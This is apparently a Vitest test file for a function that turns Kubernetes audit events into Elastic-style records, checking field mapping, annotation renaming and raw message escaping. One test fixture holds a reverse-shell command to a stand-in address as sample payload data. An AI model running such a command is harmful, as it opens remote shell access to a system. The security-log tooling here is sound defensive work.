import { describe, expect, it } from 'vitest';
import { elasticAuditView, eventTimeMs } from '../../src/elastic/audit-view.js';
import type { AuditEvent } from '../../src/schema/audit-event.js';

const cronjobCreate: AuditEvent = {
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  level: 'RequestResponse',
  auditID: 'a1',
  stage: 'ResponseComplete',
  verb: 'create',
  user: { username: 'mallory', uid: 'u-1', groups: ['system:authenticated'] },
  sourceIPs: ['203.0.113.7', '10.0.0.1'],
  userAgent: 'kubectl/v1.29.3 (linux/amd64) kubernetes/6813625',
  objectRef: { resource: 'cronjobs', namespace: 'default', name: 'x', apiGroup: 'batch' },
  requestObject: {
    kind: 'CronJob',
    metadata: { name: 'x', labels: { app: 'x' } },
    spec: { schedule: '* * * * *' },
  },
  responseObject: { kind: 'CronJob', metadata: { name: 'x', uid: 'c-1' }, spec: {} },
  annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': '' },
  requestReceivedTimestamp: '2026-11-02T09:00:00.100000Z',
  stageTimestamp: '2026-11-02T09:00:00.130000Z',
};

describe('elasticAuditView', () => {
  const view = elasticAuditView(cronjobCreate);

  it('adds the dataset and the ECS copies the integration writes', () => {
    expect(view.event).toEqual({
      dataset: 'kubernetes.audit',
      kind: 'event',
      action: 'create',
      outcome: 'success',
    });
    expect(view.user).toEqual({ name: 'mallory', id: 'u-1' });
    expect(view.source).toEqual({ ip: ['203.0.113.7', '10.0.0.1'] });
    expect(view.client).toEqual(view.source);
    expect(view.user_agent).toEqual({ original: cronjobCreate.userAgent });
    expect(view['@timestamp']).toBe('2026-11-02T09:00:00.130000Z');
  });

  it('keeps the native event under kubernetes.audit, as the integration stores it', () => {
    const audit = view.kubernetes.audit;
    expect(audit.verb).toBe('create');
    expect(audit.objectRef).toEqual(cronjobCreate.objectRef);
    // The pipeline drops request/response metadata and de-dots annotation keys.
    expect(audit.requestObject).toEqual({ kind: 'CronJob', spec: { schedule: '* * * * *' } });
    expect(audit.responseObject).toEqual({ kind: 'CronJob', spec: {} });
    expect(audit.annotations).toEqual({
      'authorization_k8s_io/decision': 'allow',
      'authorization_k8s_io/reason': '',
    });
    // …without touching the event itself.
    expect(cronjobCreate.annotations!['authorization.k8s.io/decision']).toBe('allow');
    expect((cronjobCreate.requestObject as { metadata?: unknown }).metadata).toBeDefined();
  });

  it('holds the whole original event in message, written like the API server writes it', () => {
    const withPayload: AuditEvent = {
      ...cronjobCreate,
      requestObject: { args: ['bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'] },
    };
    const message = elasticAuditView(withPayload).message;
    expect(message).toContain('bash -i \\u003e\\u0026 /dev/tcp');
    expect(JSON.parse(message)).toEqual(withPayload);
    expect(elasticAuditView(withPayload, '{"raw":true}').message).toBe('{"raw":true}');
    expect(Object.keys(view)).toContain('message');
  });

  it('maps a denied request to failure and copies Pod images', () => {
    const denied = elasticAuditView({
      ...cronjobCreate,
      objectRef: { resource: 'pods', namespace: 'default' },
      annotations: { 'authorization.k8s.io/decision': 'forbid' },
      requestObject: {
        kind: 'Pod',
        spec: { containers: [{ image: 'alpine' }, { image: 'nginx' }] },
      },
    });
    expect(denied.event.outcome).toBe('failure');
    expect(denied.container).toEqual({ image: { name: ['alpine', 'nginx'] } });
    expect(view.container).toBeUndefined();
  });

  it('leaves out what the event does not have', () => {
    const bare = elasticAuditView({ auditID: 'b', verb: '' });
    expect(bare.event).toEqual({ dataset: 'kubernetes.audit', kind: 'event' });
    expect(bare.user).toBeUndefined();
    expect(bare.source).toBeUndefined();
    expect(bare['@timestamp']).toBeNull();
    expect(eventTimeMs({})).toBeNaN();
    expect(eventTimeMs(cronjobCreate)).toBe(Date.parse('2026-11-02T09:00:00.130Z'));
  });
});
